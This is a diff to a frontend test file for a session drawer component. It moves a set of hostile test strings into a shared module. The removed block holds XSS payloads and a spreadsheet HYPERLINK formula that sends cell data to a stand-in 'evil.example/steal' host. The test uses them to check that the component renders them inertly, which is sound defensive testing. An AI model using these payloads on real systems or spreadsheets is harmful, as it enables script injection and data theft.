@@ -4,6 +4,7 @@ import { http, HttpResponse } from 'msw';
 import { server } from '../../../test/msw-server';
 import { renderApp } from '../../../test/render';
 import { makeWireSession } from '../../../test/session-factory';
+import { HOSTILE } from '../../../test/hostile-strings';
 import type { WireSessionInfo } from '../api/session-types';
 import { sessionQueries } from '../api/session-queries';
 
@@ -361,17 +362,6 @@ describe('session drawer', () => {
     await waitFor(() => expect(document.querySelector('.session-print-only')).toBeNull());
   });
 });
-
-// The sandbox's hostile specimen (server/sandbox/specimens.ts), copied: src/ does not import server/.
-const HOSTILE = {
-  img: '<img src=x onerror=alert(1)>',
-  script: '<script>alert(1)</script>',
-  jsUrl: 'javascript:alert(1)',
-  formula: '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for refund")',
-  rtl: 'مركز الاتصال الرئيسي ‏שלום עולם‏ ‮reversed‬',
-  emoji: '🦄 Agent 👩🏽‍💻🔥 ☎️',
-  long: 'A'.repeat(9_993) + ' …END!',
-};
 
 describe('session drawer with hostile and odd data', () => {
   it('renders hostile strings in every field as text and runs nothing', async () => {
